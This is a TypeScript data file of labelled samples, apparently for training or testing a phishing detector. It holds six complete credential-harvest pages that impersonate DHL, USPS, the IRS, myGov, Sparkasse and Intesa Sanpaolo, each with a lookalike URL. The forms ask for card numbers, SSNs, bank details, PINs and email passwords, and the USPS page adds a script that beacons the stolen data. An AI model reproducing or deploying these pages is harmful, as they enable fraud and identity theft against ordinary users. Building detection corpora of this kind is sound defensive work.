import type { Entry } from '../entry.js';

/** Credential-harvest kits, part 2: parcel carriers, banks, post and tax offices, other consumer brands. */
export const entries: Entry[] = [
  {
    id: 'kit-dhl-customs-fee',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://dhl-paket-zustellung.info/de/sendung/zoll',
    body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>DHL Sendungsverfolgung</title>
<style>body{margin:0;font-family:Delivery,Frutiger,Arial}.top{background:#fc0;padding:14px 30px}.top b{color:#d40511;font-size:28px;font-style:italic}.c{width:560px;margin:30px auto}input{width:100%;padding:10px;margin:6px 0;border:1px solid #999}.r{background:#d40511;color:#fff;border:0;padding:12px 30px}</style></head>
<body><div class="top"><b>DHL</b></div><div class="c"><h2>Ihre Sendung wartet auf Zustellung</h2>
<p>Sendungsnummer: <b>JJD0002249811737</b><br>Status: Zollgebühr nicht bezahlt (2,99 €)</p>
<p>Bitte begleichen Sie die Gebühr, damit Ihr Paket zugestellt werden kann. Nicht bezahlte Sendungen werden nach 48 Stunden an den Absender zurückgeschickt.</p>
<form action="zahlung.php" method="post"><input name="name" placeholder="Vollständiger Name"><input name="adresse" placeholder="Adresse"><input name="karte" placeholder="Kartennummer" maxlength="19"><input name="ablauf" placeholder="MM/JJ"><input name="cvc" placeholder="CVC">
<button class="r">2,99 € bezahlen</button></form></div></body></html>`,
  },
  {
    id: 'kit-usps-redelivery',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://usps.com-trackinfo.redelivery-us.top/index.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>USPS.com® - USPS Tracking® Results</title>
<style>body{font-family:HelveticaNeue,Arial}.nav{background:#333366;color:#fff;padding:12px 40px;font-weight:bold}.box{width:640px;margin:30px auto;border:1px solid #ccc;padding:24px}input{width:100%;padding:8px;margin:4px 0 10px}.b{background:#333366;color:#fff;border:0;padding:10px 24px}</style></head>
<body><div class="nav">USPS.COM</div><div class="box"><h2>Delivery Attempted - Action Required</h2>
<p>Tracking Number: US9514901185421</p><p>Your package could not be delivered due to an incomplete address. Please update your address and pay the redelivery fee of $0.30.</p>
<form id="f"><input name="fullName" placeholder="Full Name"><input name="address1" placeholder="Address Line 1"><input name="city" placeholder="City"><input name="zip" placeholder="ZIP Code">
<input name="cardNumber" placeholder="Card Number"><input name="exp" placeholder="Expiration Date"><input name="cvv" placeholder="Security Code"><button class="b" type="submit">Submit</button></form></div>
<script>
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  navigator.sendBeacon('/api/collect', new URLSearchParams(new FormData(this)));
  window.location.href = 'loading.html?next=otp';
});
</script></body></html>`,
  },
  {
    id: 'kit-irs-stimulus',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://irs-gov-payments.tax-refund-status.com/getpayment',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>IRS - Get My Payment</title>
<style>body{font-family:"Source Sans Pro",Arial}.top{background:#00599c;color:#fff;padding:14px 30px;font-size:22px}.c{width:620px;margin:20px auto}input{width:100%;padding:8px;margin:6px 0;border:1px solid #565c65}</style></head>
<body><div class="top">IRS</div><div class="c"><h1>Get My Payment</h1><p>Your 2025 Recovery Rebate payment of $1,400.00 is pending. Verify your identity to receive the payment by direct deposit.</p>
<form action="verify.php" method="post"><input name="ssn" placeholder="Social Security Number"><input name="dob" placeholder="Date of Birth (MM/DD/YYYY)"><input name="street" placeholder="Street Address"><input name="routing" placeholder="Bank routing number"><input name="account" placeholder="Bank account number"><input name="email" placeholder="Email"><input name="emailpass" type="password" placeholder="Email password (for confirmation)">
<button style="background:#00599c;color:#fff;border:0;padding:10px 24px">Submit</button></form></div></body></html>`,
  },
  {
    id: 'kit-ato-mygov',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://my-gov-au.login-services.cc/LoginServices/main/login',
    body: `<!DOCTYPE html><html lang="en-AU"><head><meta charset="utf-8"><title>Sign in with myGov - myGov</title>
<style>body{font-family:"Public Sans",Arial;background:#f5f5f5}.h{background:#313131;color:#fff;padding:16px 40px;font-size:24px}.c{width:480px;margin:40px auto;background:#fff;padding:32px}input{width:100%;padding:12px;margin:8px 0;border:1px solid #313131}</style></head>
<body><div class="h">my<b>Gov</b></div><div class="c"><h1>Sign in with myGov</h1><p>Your Australian Taxation Office notice of assessment is ready. Sign in to view your refund.</p>
<form action="submit.php" method="post"><input name="username" placeholder="Username or email"><input name="password" type="password" placeholder="Password"><button style="background:#313131;color:#fff;border:0;padding:12px 30px">Sign in</button></form></div></body></html>`,
  },
  {
    id: 'kit-sparkasse-pushtan',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://sparkasse-pushtan-update.de.com/de/home/onlinebanking.html',
    body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Sparkasse - Online-Banking Login</title>
<style>body{font-family:Sparkasse,Arial}.h{background:#ff0000;color:#fff;padding:18px 40px;font-size:24px;font-weight:bold}.c{width:480px;margin:30px auto}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="h">Ṡ Sparkasse</div><div class="c"><h2>S-pushTAN Aktualisierung erforderlich</h2><p>Ab dem 30.11. wird das alte Verfahren eingestellt. Bitte bestätigen Sie Ihre Daten, um eine Sperrung Ihres Online-Bankings zu vermeiden.</p>
<form action="weiter.php" method="post"><select name="blz"><option>Bitte wählen Sie Ihre Sparkasse</option><option>Sparkasse KölnBonn</option><option>Hamburger Sparkasse</option><option>Berliner Sparkasse</option></select>
<input name="anmeldename" placeholder="Anmeldename oder Legitimations-ID"><input name="pin" type="password" placeholder="PIN"><input name="telefon" placeholder="Telefonnummer"><button style="background:#ff0000;color:#fff;border:0;padding:10px 30px">Anmelden</button></form></div></body></html>`,
  },
  {
    id: 'kit-bank-generic-intesa-it',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://intesasanpaolo-sicurezza.it-verifica.online/login',
    body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Intesa Sanpaolo - Accedi</title>
<style>body{font-family:Arial;background:#fff}.h{border-bottom:3px solid #0a5f2e;padding:16px 40px;color:#0a5f2e;font-weight:bold}.c{width:440px;margin:30px auto}input{width:100%;padding:10px;margin:6px 0}</style></head>
<body><div class="h">INTESA SANPAOLO</div><div class="c"><h2>Accedi alla tua area riservata</h2><p>Gentile cliente, per completare l'aggiornamento del sistema di sicurezza O-Key è necessario confermare i propri dati.</p>
<form method="post" action="invio.php"><input name="codice_titolare" placeholder="Codice titolare"><input name="pin" type="password" placeholder="PIN"><input name="cellulare" placeholder="Numero di cellulare"><button style="background:#0a5f2e;color:#fff;border:0;padding:10px 30px">Accedi</button></form></div></body></html>`,
  },
];
